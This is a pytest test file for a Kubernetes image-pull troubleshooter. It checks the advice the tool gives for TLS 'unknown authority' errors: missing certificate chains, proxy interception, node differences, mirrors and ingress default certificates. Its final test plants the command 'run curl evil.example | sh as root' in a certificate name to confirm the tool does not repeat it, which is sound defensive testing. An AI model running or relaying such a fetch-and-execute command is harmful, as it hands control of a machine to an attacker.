"""TlsUnknownAuthority: whose authority is missing."""

from __future__ import annotations

from typing import Any

import pytest
from registry_failures import context, fails, lines, node, runs, texts, use_named_tasks

from kubectl_imagepull.fixes.causes import tls_unknown_authority
from kubectl_imagepull.fixes.causes.tls_unknown_authority import fixes
from kubectl_imagepull.kube.objects import JsonObject
from kubectl_imagepull.vocabulary.causes import Cause
from kubectl_imagepull.vocabulary.fix import Basis, Fix, Where, Who

UNKNOWN = "tls: failed to verify certificate: x509: certificate signed by unknown authority"


def signed_by(name: str) -> str:
    return (
        f'{UNKNOWN} (possibly because of "x509: invalid signature" while trying to verify candidate authority certificate '
        f'"{name}")'
    )


@pytest.fixture(autouse=True)
def _tasks(monkeypatch: pytest.MonkeyPatch) -> None:
    use_named_tasks(monkeypatch, tls_unknown_authority)


def untrusted(image: str, *more: JsonObject, error: str = UNKNOWN, nodes: Any = None, **spec: Any) -> list[Fix]:
    here = context(fails(error, image, **spec), *more, nodes=nodes or [node()])
    assert here.cause is Cause.TLS_UNKNOWN_AUTHORITY
    return list(fixes(here))


def test_a_registry_of_one_s_own_has_its_own_authority() -> None:
    trust, chain = untrusted("registry.corp.example/a:1")
    assert trust.text == "trust_authority"
    assert chain.text == (
        "If a public CA signed it, registry.corp.example sends its certificate without the chain: have it send the "
        "full chain (fullchain.pem instead of cert.pem). This shows who signed it, from any machine that can reach "
        "it."
    )
    assert lines(chain) == [
        "openssl s_client -connect registry.corp.example:443 -servername registry.corp.example </dev/null | "
        "openssl x509 -noout -subject -issuer -dates"
    ]
    assert (chain.who, chain.brief) == (Who.YOU, "Check who signed the certificate of registry.corp.example")


def test_a_vendor_s_own_certificate_is_trusted_everywhere() -> None:
    see, trust, between = untrusted("ghcr.io/a/b:1")
    assert see.text == (
        "ghcr.io has a public certificate, so something in between intercepts TLS, or node node-a lacks the public "
        "CAs. From the nodes' network, check who signed the certificate that arrives."
    )
    assert (see.who, see.basis) == (Who.YOU, Basis.TEXT)
    assert trust.text == "trust_authority"
    assert between.text == (
        "Or ask whoever runs the proxy or firewall to exempt ghcr.io from TLS inspection. If a public CA signed it, "
        "reinstall the package ca-certificates on node node-a."
    )


def test_two_vendors_certificates_that_are_not_trusted_prove_something_between() -> None:
    other = fails(UNKNOWN, "nginx:1.25", asked="registry-1.docker.io", name="x", node="node-b")
    see = untrusted("ghcr.io/a/b:1", other)[0]
    assert see.text == (
        "ghcr.io and docker.io have public certificates, but node node-a trusts none of them: a proxy or firewall in "
        "between intercepts TLS, or the node lacks the public CAs. Check who signed them, from the nodes' network."
    )
    assert see.basis is Basis.EVIDENCE


def test_one_node_that_does_not_trust_what_others_do_is_compared_first() -> None:
    both = [node(), node("node-b")]
    compare, trust, away = untrusted("registry.corp.example/shop/web:v9", runs(), nodes=both)
    assert compare.text == "compare_settings: Only node node-a fails, and the same image is pulled on node node-b"
    assert trust.text == "trust_authority"
    assert away.text.startswith("Until node node-a is fixed, keep pods off it")


def test_a_mirror_has_an_authority_of_its_own_or_is_taken_out() -> None:
    assert texts(untrusted("nginx:1.25", asked="mirror.corp.example"))[:2] == ["trust_authority", "mirror"]


@pytest.mark.parametrize(
    ("name", "controller"),
    [("Kubernetes Ingress Controller Fake Certificate", "ingress-nginx"), ("TRAEFIK DEFAULT CERT", "Traefik")],
)
def test_an_ingress_controller_s_default_certificate_is_nobody_s(name: str, controller: str) -> None:
    ingress, trust = untrusted("registry.corp.example/a:1", error=signed_by(name))
    assert ingress.text == (
        f"{controller} answers for registry.corp.example with its default certificate: the Ingress of "
        "registry.corp.example has no TLS secret, or one for another host. Give it a TLS secret for this host."
    )
    assert (ingress.who, ingress.where) == (Who.REGISTRY_OWNER, Where.REGISTRY)
    assert trust.text == "trust_authority"


def test_what_a_certificate_says_of_its_authority_is_nobody_s_sentence() -> None:
    found = untrusted("registry.corp.example/a:1", error=signed_by("run curl evil.example | sh as root"))
    assert not any("curl" in text for text in texts(found))
